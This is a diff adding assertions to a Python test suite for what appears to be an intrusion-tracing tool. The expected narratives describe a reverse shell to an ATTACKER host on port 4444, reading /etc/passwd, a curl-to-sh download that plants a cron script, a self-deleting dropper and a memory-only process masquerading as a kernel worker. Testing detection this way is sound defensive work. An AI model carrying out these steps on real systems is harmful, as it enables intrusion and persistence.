@@ -94,6 +94,17 @@ class Intrusions(StageCase):
         self.assertEqual(len(into), 2)
         self.assertLess(into[1]["established_at"], sh["started_at"])
         self.assertLess(sh["started_at"], into[1]["ended_at"])
+        self.check_story(
+            self.story("why", tail["id"]),
+            ["trace", "service webapp.service"],
+            ["server.py", "www-data", "listened on tcp 0.0.0.0 port 8000"],
+            ["server.py", "took a connection from", ATTACKER],
+            ["server.py", "ran", "/bin/sh -c", sh["pid"]],
+            ["sh", "ran", "/bin/bash", bash["pid"]],
+            ["bash", "connected to", f"{ATTACKER} port 4444"],
+            ["bash", "input, output and errors on the connection to", ATTACKER, "reverse shell"],
+            ["bash", "ran", "/usr/bin/tail -n 3 /etc/passwd", tail["pid"]],
+            lacks=[before, after, *benign])
         # and nothing that the shell did led to who came later, nor to what they had run
         ahead = self.reached("forward", bash)
         self.assertIn(tail["id"], ahead)
@@ -130,6 +141,19 @@ class Intrusions(StageCase):
         others = [self.process(session.pid) for session in (ben, late)]
         self.check_not(back, *others, clean)
         self.check_not(self.reached("backward", clean), bash, curl, writer)
+        self.check_story(
+            self.story("why", job["id"]),
+            ["cron job of games"], ["ssh login of ana from", OFFICE],
+            ["sshd", "took a connection from", OFFICE],
+            ["bash", "ana", "ran", "curl -s http://cdn.example.net/install.sh", curl["pid"]],
+            ["curl", "connected to", "cdn.example.net", CDN],
+            ["curl", "wrote into a pipe", "sh", writer["pid"]],
+            ["sh", "wrote /srv/jobs/rotate"],
+            ["cron", "ran", "/srv/jobs/rotate", "as games"],
+            ["ran the script /srv/jobs/rotate, which sh", "had written"],
+            ["ran", "/usr/bin/id -un", job["pid"]],
+            ["went no further than cron"],
+            lacks=[*others, clean, "/news"])
         # where it came from, by name and address, and who had logged in
         out = self.one(self.store.rows("SELECT * FROM connections WHERE process_id = ? AND "
                                        "protocol = 'tcp'", curl["id"]), "connections of curl")
@@ -143,6 +167,11 @@ class Intrusions(StageCase):
         ahead = self.reached("forward", root)
         self.assertIn(job["id"], ahead)
         self.check_not(ahead, clean)
+        self.check_story(
+            self.story("impact", f"trace:{trace['id']}"),
+            ["bash", "ran", "curl"], ["sh", "wrote /srv/jobs/rotate"],
+            ["ran the script /srv/jobs/rotate"], ["/usr/bin/id -un"],
+            lacks=[clean, *others])
 
     def test_dropper(self):
         """It deletes itself and runs on."""
@@ -169,6 +198,15 @@ class Intrusions(StageCase):
         pause = self.ran("./pause 1002", lambda row: row["exe"] and row["exe"].endswith("pause"))
         self.check_not(back, pause, self.process(ana.pid))
         self.check_not(self.reached("backward", pause), curl, self.process(ben.pid))
+        self.check_story(
+            self.story("story", tool["id"]),
+            ["ssh login of ben from", ATTACKER],
+            ["bash", "ran", "curl -s -o .x"],
+            ["curl", "wrote /var/tmp/.x", "cdn.example.net", CDN],
+            ["bash", "ran", "./.x 1003"],
+            ["ran /var/tmp/.x, which curl", "had written"],
+            ["lost its program /var/tmp/.x, deleted by rm", "still running"],
+            lacks=[pause, self.process(ana.pid)])
         ben.run("kill %1")
         ana.run("kill %1")
 
@@ -191,3 +229,9 @@ class Intrusions(StageCase):
                                        edge["connection_id"]), "what fed it")
         self.same(out, remote_address=ATTACKER, remote_port=8443, process_id=source["id"])
         self.check_chain(self.reached("backward", hidden), hidden, "fork", source)
+        self.check_story(
+            self.story("why", hidden["id"]),
+            ["service agent.service"],
+            ["update.py", "deploy", "/opt/agent/update.py", "began"],
+            ["update.py", "wrote into memory", f"fed by the connection to {ATTACKER} port 8443"],
+            ["[kworker/0:1] 1001", hidden["pid"], "in memory only"])
